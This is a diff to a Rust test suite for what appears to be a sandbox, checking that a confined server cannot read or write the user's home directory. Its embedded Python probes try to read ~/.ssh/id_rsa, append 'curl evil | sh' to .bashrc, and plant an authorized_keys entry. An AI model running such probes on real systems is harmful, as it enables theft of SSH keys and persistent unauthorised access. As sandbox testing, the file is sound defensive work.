@@ -346,37 +346,59 @@ fn read_write_root_allows_everything_a_server_needs() {
 #[test]
 fn home_directory_secrets_are_not_readable() {
     let t = tree();
-    t.py(
+    let p = t.py(
         &[],
         "home = os.environ['HOME']\n\
          check('ssh_key', lambda: read(home + '/.ssh/id_rsa'))\n\
          check('ssh_dir', lambda: os.listdir(home + '/.ssh'))\n\
          check('bashrc', lambda: read(home + '/.bashrc'))\n\
          check('home', lambda: os.listdir(home))\n\
-         check('tilde', lambda: read(os.path.expanduser('~/.ssh/id_rsa')))",
-    )
-    .refused("ssh_key")
-    .refused("ssh_dir")
-    .refused("bashrc")
-    .refused("home")
-    .refused("tilde");
+         check('tilde', lambda: read(os.path.expanduser('~/.ssh/id_rsa')))\n\
+         try:\n    print('listing=' + ','.join(sorted(os.listdir(home))))\n\
+         except OSError as e:\n    print('listing=' + errno.errorcode[e.errno])",
+    );
+    p.refused("ssh_key")
+        .refused("ssh_dir")
+        .refused("bashrc")
+        .refused("tilde");
+    // Both files are there outside: the refusals are the sandbox's.
+    assert_eq!(content(&t.home.join(".ssh/id_rsa")), SECRET);
+    if t.namespaces {
+        // The server's home is a private directory of its own: listed, it
+        // holds nothing of the real one.
+        p.expect("home", "OK").expect("listing", "");
+    } else {
+        p.refused("home");
+    }
 }
 
 #[test]
-fn home_directory_cannot_be_written() {
+fn home_directory_is_never_written() {
     let t = tree();
-    t.py(
+    let p = t.py(
         &[],
         "home = os.environ['HOME']\n\
          check('bashrc', lambda: write(home + '/.bashrc', 'curl evil | sh', 'a'))\n\
          check('plant', lambda: write(home + '/.profile', 'x'))\n\
-         check('authorized_keys', lambda: write(home + '/.ssh/authorized_keys', 'ssh-rsa AAA'))",
-    )
-    .refused("bashrc")
-    .refused("plant")
-    .refused("authorized_keys");
+         check('authorized_keys', lambda: write(home + '/.ssh/authorized_keys', 'ssh-rsa AAA'))\n\
+         check('state', lambda: (os.makedirs(home + '/.my-server'), write(home + '/.my-server/s.json', '{}')))\n\
+         check('state_back', lambda: read(home + '/.my-server/s.json'))",
+    );
+    p.refused("authorized_keys");
+    if t.namespaces {
+        // Writes go to the server's private home, discarded at exit.
+        p.expect("bashrc", "OK")
+            .expect("plant", "OK")
+            .expect("state", "OK")
+            .expect("state_back", "OK");
+    } else {
+        p.refused("bashrc").refused("plant").refused("state");
+    }
+    // Nothing reached the real home directory.
     assert_eq!(content(&t.home.join(".bashrc")), SECRET);
     assert!(!t.home.join(".profile").exists());
+    assert!(!t.home.join(".my-server").exists());
+    assert!(!t.home.join(".ssh/authorized_keys").exists());
 }
 
 #[test]
